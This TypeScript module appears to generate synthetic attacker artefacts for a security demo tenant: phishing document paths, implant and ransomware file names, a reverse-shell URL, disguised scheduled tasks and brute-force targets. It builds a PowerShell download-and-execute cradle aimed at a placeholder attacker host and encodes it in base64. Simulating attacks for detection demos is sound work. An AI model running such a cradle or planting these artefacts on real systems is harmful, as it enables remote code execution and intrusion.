import { ATTACKER } from './catalog/network.js'
import { fileHashes, type FileHashes } from './files.js'
import type { DemoDevice, DemoTenant, DemoUser } from './tenant.js'

/** Attacker artefacts of one seed: paths, hashes, infrastructure, and the devices the stories use. */
export interface StoryFacts {
  phishDoc: { path: (user: string) => string; hashes: FileHashes; name: string }
  implant: { downloadPath: string; installPath: string; hashes: FileHashes; url: string }
  procdump: { path: string; url: string }
  locker: { path: string; hashes: FileHashes; extension: string; note: string }
  revShell: { path: string; hashes: FileHashes; url: string }
  cradleUrl: string
  encodedCommand: string
  cradleScript: string
  taskName: string
  attacker: typeof ATTACKER
  fin: DemoDevice | undefined
  fileServer: DemoDevice | undefined
  web: DemoDevice | undefined
  jump: DemoDevice | undefined
  /** The admin whose credentials are stolen and reused. */
  stolenAdmin: DemoUser
  /** The account the brute force finally guesses. */
  bruteForcedUser: DemoUser
  days: { phish: number; lsass: number; linux: number; ransom: number; brute: number }
}

export function storyFacts(t: DemoTenant): StoryFacts {
  const s = t.seed
  const payload = (name: string) => fileHashes(`payload:${s}:${name}`)
  const cradleUrl = `http://${ATTACKER.cradleHost}/a.ps1`
  const cradleScript = `IEX (New-Object Net.WebClient).DownloadString('${cradleUrl}')`
  const D = t.dayCount - 1
  return {
    phishDoc: {
      name: 'Invoice_88341.docm',
      path: (user) =>
        `C:\\Users\\${user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7ZK2M1B\\Invoice_88341.docm`,
      hashes: payload('Invoice_88341.docm'),
    },
    implant: {
      downloadPath: 'C:\\Users\\Public\\msupdate.exe',
      installPath: 'C:\\ProgramData\\Microsoft\\Update\\msupdate.exe',
      hashes: payload('msupdate.exe'),
      url: `http://${ATTACKER.payloadUrlHost}/update.exe`,
    },
    procdump: { path: 'C:\\Users\\Public\\procdump64.exe', url: `https://${ATTACKER.c2Host}/t/pd64.exe` },
    locker: {
      path: 'C:\\ProgramData\\svchostx.exe',
      hashes: payload('svchostx.exe'),
      extension: '.lockbit',
      note: 'README_RESTORE_FILES.txt',
    },
    revShell: { path: '/tmp/.x.sh', hashes: payload('x.sh'), url: `http://${ATTACKER.reverseShellIp}/x.sh` },
    cradleUrl,
    cradleScript,
    encodedCommand: Buffer.from(cradleScript, 'utf16le').toString('base64'),
    taskName: '\\Microsoft\\Windows\\UpdateOrchestrator\\UpdateCheck',
    attacker: ATTACKER,
    fin: t.devices.find((d) => d.os === 'windows' && d.tags.includes('finance') && d.user),
    fileServer: t.devices.find((d) => d.role === 'fileserver' && d.os === 'windows'),
    web: t.devices.find((d) => d.role === 'web' && d.os === 'linux'),
    jump: t.devices.find((d) => d.role === 'jump' && d.os === 'windows'),
    stolenAdmin: t.users[0]!,
    bruteForcedUser: t.users[2]!,
    days: { phish: D - 5, lsass: D - 4, linux: D - 3, ransom: D - 2, brute: D - 1 },
  }
}
